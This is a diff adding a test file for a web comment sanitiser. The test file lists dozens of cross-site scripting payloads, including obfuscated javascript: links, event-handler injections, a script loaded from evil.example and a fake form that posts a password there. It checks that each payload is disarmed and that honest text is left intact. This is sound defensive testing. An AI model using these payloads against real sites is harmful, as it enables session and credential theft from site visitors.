@@ -1,0 +1,144 @@
+import { describe, expect, it } from 'vitest';
+import { plainText, sanitiseComment, siteAddress, textFormatOf } from './sanitise';
+
+/** Attacks, each in the text of a comment. None may leave a tag, attribute or address that runs something. */
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<p><img src=x onerror=alert(1)></p>',
+  `<img src="1'onerror='alert(1)'a='">`,
+  `<p><img src="1'onerror='alert(1)'a='"></p>`,
+  `<p><img src='1"onerror="alert(1)"a="'></p>`,
+  '<img src="1&#39;onerror=&#39;alert(1)&#39;a=&#39;">',
+  `<img alt="x'onerror='alert(1)" src="a.png">`,
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<p><a href="javascript:alert(1)">x</a></p>',
+  '<p><a href="JaVaScRiPt:alert(1)">x</a></p>',
+  '<p><a href=" &#14; javascript:alert(1)">x</a></p>',
+  '<p><a href="java&#x09;script:alert(1)">x</a></p>',
+  '<p><a href="java\nscript:alert(1)">x</a></p>',
+  '<p><a href="&#106;&#97;&#118;&#97;script&colon;alert(1)">x</a></p>',
+  '<p><a href="vbscript:msgbox(1)">x</a></p>',
+  '<p><a href="data:text/html,<script>alert(1)</script>">x</a></p>',
+  '<p><img src="data:image/svg+xml;base64,PHN2Zz4="></p>',
+  '<p><a href="javascript%3Aalert(1)">x</a></p>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<p onclick=alert(1) onmouseover="alert(1)" style="background:url(javascript:alert(1))">x</p>',
+  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
+  '<form action="https://evil.example"><input name=password><button>go</button></form>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href=//evil.example>',
+  '<style>@import "//evil.example"</style>',
+  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[><img src=x onerror=alert(1)>]]>',
+  '<p><a href="x" title="&quot; onmouseover=alert(1) x=&quot;">x</a></p>',
+  '<img src=x onerror=alert(1)',
+  '<p>a</p><img src=x onerror=alert(1) //',
+  '<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><plaintext>',
+  '[x](javascript:alert(1))',
+  '[x]( javascript:alert(1) "title")',
+  '[x](java&#115;cript:alert(1))',
+  '[x](javascript&colon;alert(1))',
+  '[x](<javascript:alert(1)>)',
+  '[a [b] c](javascript:alert(1))',
+  '![x](javascript:alert(1))',
+  '![x](data:text/html;base64,PHNjcmlwdD4=)',
+  "![x](http://a.example/'onerror='alert(1))",
+  '[x]: javascript:alert(1)\n\n[x]',
+  '> [x]: javascript:alert(1)',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '<javascript:alert(1)>',
+  '[x](vbscript:msgbox)',
+];
+
+/** A running reading of what is left: every tag with its attributes. */
+function dangersIn(text: string): string[] {
+  const dangers: string[] = [];
+  for (const [tag, name, attributes] of text.matchAll(/<\/?([a-z!?][^\s/>]*)([^>]*)>?/gi)) {
+    if (!/^(a|b|blockquote|br|code|del|details|div|em|h[1-6]|i|img|li|ol|p|pre|span|strong|summary|table|td|tr|ul)$/.test(name!)) dangers.push(`tag ${tag}`);
+    if (/[\s"'/]on\w+\s*=/i.test(attributes!)) dangers.push(`handler ${tag}`);
+    if (/\sstyle\s*=/i.test(attributes!)) dangers.push(`style ${tag}`);
+    if (attributes!.includes("'")) dangers.push(`quote ${tag}`);
+  }
+  if (/(?:href|src)\s*=\s*"(?!(https?:|mailto:|#|\/|[\w.%=()-]*")|data:image\/png)/i.test(text)) dangers.push('address');
+  if (/\]\(\s*<?\s*(?:java|vb)\s*script|\]\(\s*data:text|\]:\s*<?javascript/i.test(text)) dangers.push('target');
+  return dangers;
+}
+
+describe('§5 sanitising of comments', () => {
+  it('sees the danger in the attacks themselves', () => {
+    const harmless = ATTACKS.filter((attack) => dangersIn(attack).length === 0);
+    // These hide in entities, which the plain reading does not see.
+    expect(harmless.every((attack) => attack.includes('&') || attack.includes('%3A') || attack.includes("'onerror") || attack.includes('vbscript') || attack.includes('(javascript') || attack.includes('data:text'))).toBe(true);
+    expect(harmless.length).toBeLessThan(ATTACKS.length / 3);
+  });
+
+  it.each(ATTACKS)('disarms %s', (attack) => {
+    const clean = sanitiseComment(attack);
+    expect(dangersIn(clean)).toEqual([]);
+    expect(clean).not.toMatch(/(?:href="|src="|\]\(|\]:\s*)\s*(?:java|vb|data:text)/i);
+    expect(sanitiseComment(clean)).toBe(clean);
+  });
+
+  it.each([
+    '<p>你好，<strong>世界</strong> &amp; <em>大家</em> <code class="language-js">a &lt; b</code></p>\n<pre><code class="language-cpp">std::vector&lt;int&gt; v;</code></pre>',
+    '<p><a class="at" href="#5cc6b3aa0000000000000001">@小明</a> , 同意 <img src="https://img.example/x.png" alt="图" loading="lazy" /></p>',
+    '<ul>\n<li>一</li>\n</ul><blockquote><p>引</p></blockquote>',
+    '**加粗** 和 `code` 与 [链接](https://a.example/?a=1&b=2) ![图](https://a.example/x.png "标题")',
+    '> 引用\n> > 两层\n\n- [ ] 待办\n\n1 < 2 && 3 > 2',
+    '```cpp\nif (a < b && b > c) return a->b;\n```',
+    '![贴图](data:image/png;base64,iVBORw0KGgo=)',
+    '$a_1 < b$ 与 A&B，AT&amp;T，<https 不是标签',
+  ])('leaves honest text as it is: %s', (text) => {
+    expect(sanitiseComment(text)).toBe(text.replace('<https 不是标签', '&lt;https 不是标签'));
+  });
+
+  it('keeps template arguments and comparisons as text', () => {
+    expect(sanitiseComment('std::vector<int> 很快')).toBe('std::vector&lt;int> 很快');
+    expect(sanitiseComment('<p>std::map<Key, Value> m</p>')).toBe('<p>std::map&lt;Key, Value&gt; m</p>');
+  });
+
+  it('keeps entities as they were typed, with tags beside them too', () => {
+    expect(sanitiseComment('AT&amp;T <b>x</b> a & b &lt;i&gt;')).toBe('AT&amp;T <b>x</b> a &amp; b &lt;i&gt;');
+    expect(sanitiseComment('见 <https://a.example/x?y=1>。')).toBe('见 https://a.example/x?y=1。');
+  });
+
+  it('opens links elsewhere, and the @-link of a reply in place', () => {
+    expect(sanitiseComment('<p><a href="http://a.example">x</a></p>')).toBe('<p><a href="http://a.example" target="_blank" rel="noopener nofollow ugc">x</a></p>');
+  });
+
+  it('ends in time on text made to be slow', () => {
+    for (const text of ['<'.repeat(20_000), '<p>'.repeat(6000), '['.repeat(20_000), '[a]('.repeat(5000), '>'.repeat(20_000), '<a href="'.repeat(2000), '&#'.repeat(10_000), '<b '.repeat(6000)]) sanitiseComment(text);
+  });
+
+  it('tells the two formats apart by their start', () => {
+    expect(textFormatOf('<p>x</p>')).toBe('html');
+    expect(textFormatOf('  <pre><code>')).toBe('html');
+    expect(textFormatOf('<b>bold</b> text')).toBe('markdown');
+    expect(textFormatOf('a <p>')).toBe('markdown');
+  });
+});
+
+describe('short texts and addresses', () => {
+  it('has no markup in names', () => {
+    expect(plainText('<img src=x onerror=alert(1)>', 100)).toBe('＜img src=x onerror=alert(1)＞');
+    expect(plainText('  小\u202e作\n坊 "A&B" ', 100)).toBe('小 作 坊 ＂A＆B＂');
+    expect(plainText('👍👍👍', 2)).toBe('👍👍');
+    expect(plainText(plainText(`a'b"c`, 50), 50)).toBe(plainText(`a'b"c`, 50));
+  });
+  it('takes http and https addresses of sites only', () => {
+    expect(siteAddress('https://a.example/x?y=1')).toBe('https://a.example/x?y=1');
+    expect(siteAddress('a.example/博客')).toBe('http://a.example/%E5%8D%9A%E5%AE%A2');
+    expect(siteAddress('a.example:8080')).toBe('http://a.example:8080/');
+    for (const link of ['javascript:alert(1)', 'java\tscript:alert(1)', 'data:text/html,x', 'https://user:pw@a.example', 'x', '', 'http://', '"><img src=x>']) expect(siteAddress(link)).toBe('');
+    expect(siteAddress(`http://a.example/'onclick='x`)).toBe('http://a.example/%27onclick=%27x');
+  });
+});
